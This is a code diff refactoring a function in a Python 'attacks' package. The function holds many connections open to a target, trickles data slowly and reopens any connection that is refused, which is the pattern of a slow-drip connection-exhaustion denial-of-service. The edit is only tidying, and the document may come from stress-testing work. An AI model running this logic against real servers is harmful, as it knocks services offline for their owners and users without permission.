@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import contextlib
+import socket
 import time
 
 from attacks.place import Place, Seen, send_some
@@ -27,11 +29,10 @@ def chunks(place: Place) -> Seen:
 
 def _drip(place: Place, first: bytes, then: bytes, pause: float, most: int = CONNECTIONS) -> Seen:
     """Whoever is refused begins anew."""
-    begun = ended = 0
-    left: dict[object, bytes] = {}
+    ended = 0
     with place.connections(place.of(most)) as links:
         begun = len(links)
-        left = dict.fromkeys(links, first)
+        left: dict[socket.socket, bytes] = dict.fromkeys(links, first)
         while place.left:
             for link, data in list(left.items()):
                 sent = send_some(link, data or then)
@@ -39,14 +40,11 @@ def _drip(place: Place, first: bytes, then: bytes, pause: float, most: int = CON
                     del left[link]
                     ended += 1
                     link.close()
-                    try:
-                        link = place.connect(timeout=2.0)
-                    except OSError:
-                        continue
-                    link.setblocking(False)
-                    links.append(link)
-                    left[link] = first
-                    begun += 1
+                    with contextlib.suppress(OSError):
+                        links.append(place.connect(timeout=2.0))
+                        links[-1].setblocking(False)
+                        left[links[-1]] = first
+                        begun += 1
                 else:
                     left[link] = (data or then)[sent:]
             time.sleep(pause)
